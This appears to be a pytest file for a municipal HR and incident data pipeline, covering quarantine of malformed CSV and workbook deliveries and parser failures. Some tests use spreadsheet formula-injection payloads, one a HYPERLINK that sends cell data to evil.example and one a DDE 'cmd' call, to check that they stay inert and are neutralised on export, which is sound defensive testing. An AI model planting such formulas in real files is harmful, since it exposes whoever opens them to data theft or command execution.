"""Bad deliveries through the generic path (inbox -> loading.ingest_municipality) against a real PostgreSQL.

Each is quarantined with a reason naming the file and, where there is one, the row and column; the other
deliveries of the period and other municipalities still load; nothing is half-loaded.
"""

from __future__ import annotations

import random

import pytest
from rel_helpers import sample_file

from trivsel import loading
from trivsel.sources import all_schemes

PAYROLL = "169/hr_absence/2014-01/fravaer_2014-01.csv"
WORKBOOK_607 = "607/hr_absence/2014-01/sygefravaer_2014-01.xlsx"
PERIOD = "2014-01"


def need(*schemes: str) -> None:
    have = all_schemes()
    for s in schemes:
        if s not in have:
            pytest.fail(f"scheme module {s} is not registered (trivsel.sources.SCHEMES)")


def lines(data: bytes) -> list[list[str]]:
    text = data.decode("cp1252")
    return [line.split(";") for line in text.splitlines() if line]


def dump(rows: list[list[str]], encoding: str = "cp1252", sep: str = ";") -> bytes:
    return ("\r\n".join(sep.join(r) for r in rows) + "\r\n").encode(encoding)


def set_cell(column: str, value: str, row: int = 2):
    def mutate(data: bytes) -> bytes:
        rows = lines(data)
        rows[row - 1][rows[0].index(column)] = value
        return dump(rows)
    return mutate


def truncated(data: bytes) -> bytes:
    # cut the last data row right after its second field: a transfer that stopped mid-row
    body = data.rstrip(b"\r\n")
    last = body.rfind(b"\n") + 1
    second_sep = body.index(b";", body.index(b";", last) + 1)
    return body[:second_sep]


def drop_column(column: str):
    def mutate(data: bytes) -> bytes:
        rows = lines(data)
        i = rows[0].index(column)
        return dump([r[:i] + r[i + 1:] for r in rows])
    return mutate


def rename_column(old: str, new: str):
    def mutate(data: bytes) -> bytes:
        rows = lines(data)
        rows[0][rows[0].index(old)] = new
        return dump(rows)
    return mutate


def extra_column(data: bytes) -> bytes:
    rows = lines(data)
    return dump([r + (["Bemærkning"] if i == 0 else ["x"]) for i, r in enumerate(rows)])


def duplicate_row(data: bytes) -> bytes:
    rows = lines(data)
    return dump(rows + [rows[1]])


def random_bytes(n: int, seed: int):
    return lambda _data: random.Random(seed).randbytes(n)


# (id, mutation of the payroll sample, expected words in the reason, expected (row, column) or None)
PAYROLL_CASES = [
    ("empty", lambda d: b"", "empty", None),
    ("truncated", truncated, "", "last-row"),
    ("random-bytes", random_bytes(4096, 1), "", None),
    ("utf8-encoding", lambda d: d.decode("cp1252").encode("utf-8"), "encoding", None),
    ("utf16-encoding", lambda d: d.decode("cp1252").encode("utf-16"), "encoding", None),
    ("comma-delimiter", lambda d: dump(lines(d), sep=","), "separated", None),
    ("missing-column", drop_column("Normtimer"), "Normtimer", None),
    ("renamed-column", rename_column("Måned", "Maaned"), "Måned", None),
    ("unknown-absence-code", set_cell("Fraværskode", "XYZ"), "XYZ", (2, "Fraværskode")),
    ("unknown-unit", set_cell("Enhed", "Månebasen"), "Månebasen", (2, "Enhed")),
    ("month-outside-period", set_cell("Måned", "2013-11"), "2013-11", (2, "Måned")),
    ("negative-hours", set_cell("Fraværstimer", "-7,40"), "negative", (2, "Fraværstimer")),
    ("not-a-number", set_cell("Fraværstimer", "syv"), "number", (2, "Fraværstimer")),
    ("duplicated-key", duplicate_row, "duplicate", "last-row"),
]


def issue_rows(conn, delivery_id: int):
    return conn.execute("select row_number, column_name, reason, file_name from quarantine.delivery_issue"
                        " where delivery_id = %s order by row_number nulls first", (delivery_id,)).fetchall()


def assert_quarantined(wh, outcome, file_name: str, words: str):
    assert outcome.status == "quarantined", outcome.line()
    status, reason, rows_loaded = wh.conn.execute(
        "select status, reason, rows_loaded from audit.delivery where delivery_id = %s",
        (outcome.delivery_id,)).fetchone()
    assert status == "quarantined" and rows_loaded == 0
    assert file_name in reason, reason
    assert words.casefold() in reason.casefold(), reason
    issues = issue_rows(wh.conn, outcome.delivery_id)
    assert issues and all(i[3] == file_name for i in issues)
    # never half loaded: no raw rows under the quarantined delivery, in any raw table
    for module in all_schemes().values():
        for t in module.scheme.tables:
            n = wh.conn.execute(f'select count(*) from raw."{t.name}" where delivery_id = %s',
                                (outcome.delivery_id,)).fetchone()[0]
            assert n == 0, f"raw.{t.name} kept {n} rows of a quarantined delivery"
    return issues


@pytest.mark.parametrize("case, mutate, words, where", PAYROLL_CASES, ids=[c[0] for c in PAYROLL_CASES])
def test_bad_payroll_file_is_quarantined_and_others_load(wh, sample_root, case, mutate, words, where):
    need("hr_payroll_csv", "hr_unit_workbook")
    good = sample_file(sample_root, PAYROLL).read_bytes()
    bad = mutate(good)
    wh.put(PAYROLL, bad)
    wh.copy_sample(sample_root, WORKBOOK_607)
    out = {o.file_name: o for o in loading.ingest_municipality("169", PERIOD, "test")}
    issues = assert_quarantined(wh, out["fravaer_2014-01.csv"], "fravaer_2014-01.csv", words)
    if where == "last-row":
        n_rows = len(bad.splitlines())
        assert any(i[0] == n_rows for i in issues), issues
    elif where:
        assert any((i[0], i[1]) == where for i in issues), issues
        assert f"row {where[0]} column {where[1]}" in out["fravaer_2014-01.csv"].reason
    # another municipality's delivery of the same period still loads
    other = loading.ingest_municipality("607", PERIOD, "test")
    assert [o.status for o in other] == ["loaded"], [o.line() for o in other]


def test_extra_column_is_quarantined(wh, sample_root):
    """Issue 6 lists extra columns among the inputs to quarantine (schema drift)."""
    need("hr_payroll_csv")
    wh.put(PAYROLL, extra_column(sample_file(sample_root, PAYROLL).read_bytes()))
    out = loading.ingest_municipality("169", PERIOD, "test")[0]
    assert_quarantined(wh, out, "fravaer_2014-01.csv", "Bemærkning")


def test_absurd_hours_are_quarantined(wh, sample_root):
    """More absence hours in a month than there are hours in it."""
    need("hr_payroll_csv")
    wh.put(PAYROLL, set_cell("Fraværstimer", "9999,00")(sample_file(sample_root, PAYROLL).read_bytes()))
    out = loading.ingest_municipality("169", PERIOD, "test")[0]
    assert_quarantined(wh, out, "fravaer_2014-01.csv", "")


@pytest.mark.parametrize("name, data", [
    ("sygefravaer_2014-01.xlsx", "random"),
    ("sygefravaer_2014-01.xlsx", "truncated"),
    ("sygefravaer_2014-01.xlsx", "csv-renamed"),
    ("sygefravaer_2014-01.xlsx", "empty"),
])
def test_bad_workbook_is_quarantined(wh, sample_root, name, data):
    need("hr_unit_workbook", "hr_payroll_csv")
    good = sample_file(sample_root, WORKBOOK_607).read_bytes()
    payload = {"random": random.Random(7).randbytes(20_000), "truncated": good[: len(good) // 2],
               "csv-renamed": "Enhed;Måned\nUngeteam;2014-01\n".encode("cp1252"), "empty": b""}[data]
    wh.put(f"607/hr_absence/{PERIOD}/{name}", payload)
    wh.copy_sample(sample_root, PAYROLL)
    out = loading.ingest_municipality("607", PERIOD, "test")[0]
    assert_quarantined(wh, out, name, "")
    assert [o.status for o in loading.ingest_municipality("169", PERIOD, "test")] == ["loaded"]


def test_one_bad_file_leaves_the_periods_other_deliveries_loaded(wh, sample_root):
    """169's yearly period 2013-12: survey-free but hr_absence, incidents and use_of_force deliveries."""
    need("ohs_registry_export", "ohs_case_review", "use_of_force_yearly", "hr_unit_year_summary")
    base = "169/{}/2013-12/{}"
    wh.copy_sample(sample_root, base.format("hr_absence", "sygefravaer_aar_2010-2013.csv"))
    wh.copy_sample(sample_root, base.format("incidents", "sagsgennemgang_2013.csv"))
    wh.copy_sample(sample_root, base.format("use_of_force", "magtanvendelser_2013.csv"))
    wh.put(base.format("incidents", "arbejdsskader_2013.csv"), random.Random(3).randbytes(5000))
    out = {o.file_name: o for o in loading.ingest_municipality("169", "2013-12", "test")}
    assert out["arbejdsskader_2013.csv"].status == "quarantined"
    assert "arbejdsskader_2013.csv" in out["arbejdsskader_2013.csv"].reason
    for name in ("sygefravaer_aar_2010-2013.csv", "magtanvendelser_2013.csv"):
        assert out[name].status == "loaded", out[name].line()
    # the case review marks cases of the quarantined export: it waits for it (issue 12 §3), not loaded alone
    assert out["sagsgennemgang_2013.csv"].status == "waiting", out["sagsgennemgang_2013.csv"].line()
    assert "arbejdsskader_2013.csv" in out["sagsgennemgang_2013.csv"].reason


def test_formula_injection_is_kept_as_inert_text(wh, sample_root):
    """A spreadsheet formula in a free-text cell is stored verbatim as text: nothing evaluates it.

    The project has no CSV/spreadsheet export writer (reporting is read from PostgreSQL); the only writer of
    delivered text is COPY into raw, which treats it as data. See docs/operations-reliability.md.
    """
    need("hr_payroll_csv")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    rows = lines(sample_file(sample_root, PAYROLL).read_bytes())
    i = rows[0].index("Fraværstekst")
    target = next(n for n, r in enumerate(rows) if n and r[rows[0].index("Fraværskode")])
    rows[target][i] = formula.replace(";", ",")
    wh.put(PAYROLL, dump(rows))
    out = loading.ingest_municipality("169", PERIOD, "test")[0]
    assert out.status == "loaded", out.line()
    stored = wh.conn.execute("select absence_text from raw.hr_payroll_absence where delivery_id = %s"
                             " and source_row = %s", (out.delivery_id, target + 1)).fetchone()[0]
    assert stored == formula.replace(";", ",")


def test_formula_in_incident_description_is_inert(wh, sample_root):
    need("ohs_registry_export")
    rel = "169/incidents/2013-12/arbejdsskader_2013.csv"
    text = sample_file(sample_root, rel).read_text(encoding="utf-8-sig").splitlines()
    header = text[0].split(";")
    first = text[1].split(";")
    formula = "=cmd|' /C calc'!A0"
    first[header.index("Beskrivelse")] = formula
    text[1] = ";".join(first)
    wh.put(rel, ("\n".join(text) + "\n").encode("utf-8"))
    out = loading.ingest_municipality("169", "2013-12", "test")[0]
    assert out.status == "loaded", out.line()
    assert wh.conn.execute("select description from raw.ohs_registration where delivery_id = %s and source_row = 2",
                           (out.delivery_id,)).fetchone()[0] == formula


@pytest.mark.parametrize("exc", ["csv.Error", "zlib.error", "decimal.InvalidOperation", "RecursionError",
                                 "RuntimeError", "wrong-width-row", "undeclared-table"])
def test_any_parser_exception_is_a_quarantine_and_is_retried(wh, monkeypatch, exc):
    """Whatever a scheme module raises, the delivery is quarantined (check 'parser_error'), never lost, and
    the next run tries the file again (a parser fix then loads it) instead of calling it unchanged."""
    import csv
    import decimal
    import sys
    import types
    import zlib

    import trivsel.sources as sources
    from trivsel.config import parse_config
    from trivsel.sources import base

    table = base.RawTable("rel_crash_row", (base.Column("source_row", "integer"), base.Column("v", "text")))
    errors = {"csv.Error": csv.Error("new-line character seen in unquoted field"),
              "zlib.error": zlib.error("Error -3 while decompressing data"),
              "decimal.InvalidOperation": decimal.InvalidOperation(),
              "RecursionError": RecursionError("maximum recursion depth exceeded"),
              "RuntimeError": RuntimeError("boom")}

    def parse(path, ctx):
        yield "rel_crash_row", (2, "ok")
        if exc == "wrong-width-row":
            yield "rel_crash_row", (3, "a", "b")
        elif exc == "undeclared-table":
            yield "nope", (3, "a")
        else:
            raise errors[exc]

    module = types.ModuleType("trivsel.sources.rel_crash_csv")
    module.SCHEME = base.Scheme(name="rel_crash_csv", source="incidents", tables=(table,))
    module.parse = parse
    monkeypatch.setitem(sys.modules, "trivsel.sources.rel_crash_csv", module)
    monkeypatch.setattr(sources, "_MODULES", (*sources._MODULES, "rel_crash_csv"))
    config = parse_config({"municipalities": [{"code": "998", "name": "Crash", "units": [{"name": "A"}],
                                               "sources": {"incidents": {"cadence": "yearly", "schemes": [
                                                   {"scheme": "rel_crash_csv", "files": "*.csv"}]}}}]})
    from trivsel import schema

    schema.ensure(wh.conn)
    wh.put("998/incidents/2013-12/crash.csv", b"v\nok\n")
    first = loading.ingest_municipality("998", "2013-12", "run-1", config)[0]
    assert first.status == "quarantined", first.line()
    assert "crash.csv" in first.reason and "rel_crash_csv" in first.reason
    check = wh.conn.execute("select check_name from quarantine.delivery_issue where delivery_id = %s",
                            (first.delivery_id,)).fetchone()[0]
    assert check == "parser_error"
    assert wh.conn.execute("select count(*) from raw.rel_crash_row").fetchone()[0] == 0
    second = loading.ingest_municipality("998", "2013-12", "run-2", config)[0]
    assert second.status == "quarantined" and second.delivery_id != first.delivery_id, "retried, not 'unchanged'"


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example","klik")', "+cmd|' /C calc'!A0", "-2+3",
                                  "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_the_export_writer_neutralises_formulas(text, tmp_path):
    """The project's only export writer (trivsel.export: csv and xlsx) prefixes formula-like text with '."""
    from trivsel.export import neutralise
    assert neutralise(text) == "'" + text
    assert neutralise("Vestervænget fløj A") == "Vestervænget fløj A"
    assert neutralise(-2) == -2, "numbers stay numbers"
